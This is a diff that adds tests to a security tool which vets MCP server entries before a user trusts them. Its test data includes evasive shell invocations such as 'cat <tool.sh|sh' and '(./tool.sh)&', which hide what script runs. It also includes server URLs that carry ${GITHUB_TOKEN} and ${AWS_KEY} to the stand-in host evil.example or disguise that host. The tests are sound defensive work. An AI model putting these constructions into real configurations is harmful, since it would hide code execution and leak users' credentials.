@@ -153,6 +153,28 @@ def test_a_program_that_is_put_before_the_trusted_one_is_not_run(clone: Clone, s
     assert not clone.runs(3)
 
 
+@pytest.mark.parametrize(
+    ("entry", "file"),
+    [
+        ('command = "./tool.sh"\ncwd = "${NONE:-sub}"', "${NONE:-sub}/tool.sh"),
+        ('command = "${NONE:-~}/tool.sh"', "~/tool.sh"),
+        ('command = "sh"\nargs = ["~/tool.sh"]', "~/tool.sh"),
+        ('command = "sh"\nargs = ["-c", "(./tool.sh)&"]', "tool.sh"),
+        ('command = "sh"\nargs = ["-c", "cat <tool.sh|sh"]', "tool.sh"),
+        ('command = "node"\nargs = ["-r./tool.sh"]', "tool.sh"),
+    ],
+)
+def test_a_file_that_is_named_in_an_unusual_way_is_trusted_with_the_entry(clone: Clone, entry: str, file: str) -> None:
+    path = clone.directory / file
+    path.parent.mkdir(exist_ok=True, parents=True)
+    path.write_text(clone.script.read_text())
+    clone.file.write_text(f"[mcpServers.x]\n{entry}\n")
+
+    listed = json.loads(clone.cli("trust", "--list", "--json").stdout)["entries"]
+
+    assert [entry.get("programs") for entry in listed] == [[str(path)]]
+
+
 def test_a_running_server_takes_up_what_is_trusted_meanwhile(clone: Clone, serve: Serve) -> None:
     server = serve()
     clone.trust()
@@ -328,6 +350,22 @@ def test_nothing_shown_can_move_the_cursor_or_hide_itself_and_secrets_are_not_sh
     assert "${TOKEN}" in seen
     assert "hush" not in seen
     assert "Bearer" not in seen
+
+
+def test_every_host_and_every_variable_in_an_address_is_shown(clone: Clone) -> None:
+    """A database takes its host from the query, too; and what stands before a question mark is the host."""
+    clone.file.write_text(
+        'journal = "postgresql://safe.example/runs?host=evil.example&password=hush"\n'
+        '[mcpServers.x]\nurl = "https://me:${GITHUB_TOKEN}@evil.example/?key=${AWS_KEY}-hush"\n'
+        '[mcpServers.y]\nurl = "https://evil.example:1?@safe.example/"\n'
+    )
+
+    seen = clone.trust(answer="n")
+
+    assert '"postgresql://safe.example/runs?host=evil.example&password=\\u2026"' in seen
+    assert '"https://me:${GITHUB_TOKEN}@evil.example/?key=${AWS_KEY}\\u2026"' in seen
+    assert '"https://evil.example:1?@safe.example/"' in seen
+    assert "hush" not in seen
 
 
 def test_nothing_of_a_call_is_hidden_whatever_it_is_called(clone: Clone, calling: McpUpstream) -> None:
